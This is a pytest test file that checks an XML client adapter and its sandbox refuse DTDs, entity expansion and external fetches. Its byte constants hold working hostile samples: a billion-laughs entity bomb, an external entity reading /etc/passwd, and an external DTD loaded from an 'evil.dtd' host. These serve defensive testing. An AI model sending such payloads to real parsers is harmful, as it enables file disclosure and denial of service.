"""Untrusted XML: no entity expansion, no DTDs, no network, on both sides of the wire."""

from __future__ import annotations

from collections.abc import Callable

import httpx
import pytest
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import Response
from starlette.routing import Route

from bridge.adapters.errors import PermanentError
from bridge.adapters.onsite import OnSiteAdapter
from bridge.adapters.onsite.models import Customer, UnsafeXmlError, load, parse_xml
from bridge.adapters.onsite.sandbox import OnSiteSandbox
from bridge.sandbox.transport import SyncASGITransport

from .conftest import make_settings

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<customer id="1"><name><first>&lol9;</first></name></customer>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE customer [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<customer id="1"><notes>&secret;</notes></customer>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE customer SYSTEM "http://203.0.113.9/evil.dtd">
<customer id="1"/>"""

# Same attack, DOCTYPE keyword in lower case: libxml2 rejects that spelling as
# malformed, which must still end as a refusal, never as a parsed document.
LOWERCASE_DOCTYPE = b'<!doctype customer [<!ENTITY x "y">]><customer id="1"><notes>&x;</notes></customer>'


@pytest.mark.parametrize("document", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, LOWERCASE_DOCTYPE])
def test_parser_refuses_dtds_and_entities(document: bytes) -> None:
    with pytest.raises(UnsafeXmlError):
        parse_xml(document)


def test_parser_refuses_malformed_and_wrong_root() -> None:
    with pytest.raises(UnsafeXmlError, match="well-formed"):
        parse_xml(b"<customer><name></customer>")
    with pytest.raises(UnsafeXmlError, match="expected a <customer>"):
        load(Customer, b"<customers total_count='0'/>")


def test_parser_keeps_ordinary_character_references() -> None:
    customer = load(Customer, b"<customer id='1'><company>Smith &amp; Sons &#233;</company></customer>")
    assert customer.company == "Smith & Sons é"


def hostile_server(document: bytes) -> SyncASGITransport:
    """A server that answers every customer read with `document`."""

    async def customer(request: Request) -> Response:
        return Response(document, media_type="application/xml")

    return SyncASGITransport(Starlette(routes=[Route("/api/customers/{id:int}/", customer)]))


@pytest.mark.parametrize(
    ("document", "attack"), [(BILLION_LAUGHS, "billion laughs"), (EXTERNAL_ENTITY, "external entity")]
)
def test_adapter_rejects_hostile_responses(document: bytes, attack: str) -> None:
    transport = hostile_server(document)
    adapter = OnSiteAdapter(make_settings(), transport=transport)
    try:
        with pytest.raises(PermanentError, match="refuse to parse") as caught:
            adapter.fetch("1")
        assert "DTD" in str(caught.value), attack
        assert "root:" not in str(caught.value)  # nothing of /etc/passwd leaked into the reason
    finally:
        adapter.close()
        transport.shutdown()


def test_sandbox_rejects_hostile_request_bodies(
    sandbox: OnSiteSandbox, raw: Callable[..., httpx.Client]
) -> None:
    with raw() as client:
        for document in (BILLION_LAUGHS, EXTERNAL_ENTITY):
            response = client.post("/api/customers/", content=document)
            assert response.status_code == 400
            error = parse_xml(response.content)
            assert error.tag == "error"
            assert error.get("type") == "lsserver.error.invalid_document"
    assert sandbox.ground_truth() == []
